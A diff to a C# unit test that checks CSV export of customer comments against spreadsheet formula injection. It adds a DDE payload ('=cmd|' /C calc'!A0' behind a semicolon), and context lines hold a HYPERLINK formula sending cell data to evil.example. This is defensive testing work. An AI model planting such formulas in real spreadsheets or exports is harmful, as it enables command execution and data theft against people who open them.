@@ -162,6 +162,7 @@ public sealed class MetricRecordsTests
             "@SUM(A1:A9)",
             "plain, with a comma",
             "said \"never again\"\r\nand hung up",
+            "fine;=cmd|' /C calc'!A0",
             "fine",
         };
         var batch = comments.Select((c, i) => Json.Response(Unique.Id("r"), $"{site}-cust", "csat", 1 + i % 5, comment: c, site: site, at: At("2026-10-20T10:00:00Z").AddMinutes(i))).ToArray();
@@ -185,7 +186,9 @@ public sealed class MetricRecordsTests
         Assert.Contains("plain, with a comma", written);
         Assert.Contains("said \"never again\"\r\nand hung up", written);
         Assert.Contains("fine", written);
-        // The quoting itself, byte for byte.
+        Assert.Contains("fine;=cmd|' /C calc'!A0", written);
+        // The quoting itself, byte for byte; a semicolon is quoted for spreadsheets that split on it.
+        Assert.Contains(",\"fine;=cmd|' /C calc'!A0\",", text, StringComparison.Ordinal);
         Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"", text, StringComparison.Ordinal);
     }
 
